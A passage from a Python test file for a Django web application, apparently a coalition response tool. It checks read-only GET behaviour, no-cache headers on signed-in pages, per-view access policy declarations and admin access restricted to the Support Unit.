    before = state()
    client = client_for(support)
    for url, data in actions:
        response = client.get(url, data)
        assert response.status_code in (200, 405), url
    assert state() == before


def test_signed_in_pages_are_never_cached(support: Any, advisory: Any, toolkit: list[Tool]) -> None:
    """Rule: pages for a signed-in person (members-only content, restricted reports) carry Cache-Control: private,
    no-store — also the CSV, the 400 pages and the alert and import pages."""
    alert = raise_alert("MM")
    situation = open_one(support)
    client = client_for(support)
    urls = [
        reverse("response:index"),
        reverse("response:signals"),
        reverse("response:import"),
        reverse("response:alert", args=[alert.pk]),
        reverse("response:open") + f"?alert={alert.pk}",
        reverse("response:situation", args=[situation.pk]),
        reverse("response:toolkit"),
        reverse("response:tool", args=[toolkit[0].pk]),
        reverse("response:metrics"),
        reverse("response:metrics") + "?format=csv",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200 and not_cached(response), url
    for response in (
        client.post(reverse("response:note", args=[situation.pk]), {"text": ""}),
        client.post(reverse("response:dismiss", args=[alert.pk]), {"reason": ""}),
        client.post(reverse("response:toolkit"), {"name": ""}),
        client.post(reverse("response:import"), {"source": "stop"}),
    ):
        assert response.status_code == 400 and not_cached(response)


def test_every_response_url_declares_its_rule() -> None:
    """Rule: every view declares a policy rule (@access) that exists in policy.RULES."""
    from coalition.core import policy

    found = [
        (route, declared_policy(callback))
        for route, callback in routes()
        if getattr(callback, "__module__", "").startswith("coalition.response")
    ]
    assert len(found) >= 18
    for route, rule in found:
        assert rule is not None and rule in policy.RULES, route


def test_the_admin_is_for_the_support_unit_only(make_user: Any, support: Any, toolkit: list[Tool]) -> None:
    """Rule: admin.use — no one but the Support Unit reads situations or pledges through the admin, and civil-society
    reports are not exposed there."""
    situation = open_one(support)
    for role in (Role.CHAIR, Role.FOCAL_POINT, Role.ADVISORY_NETWORK, Role.OBSERVER):
        client = client_for(make_user(role))
        for url in (
            "/admin/response/situation/",
            f"/admin/response/situation/{situation.pk}/change/",
            "/admin/response/pledge/",
        ):
            response = client.get(url)
            assert response.status_code != 200 or SECRET_TITLE not in response.content.decode(), (role, url)
    assert client_for(support).get("/admin/response/civilsocietyreport/").status_code == 404
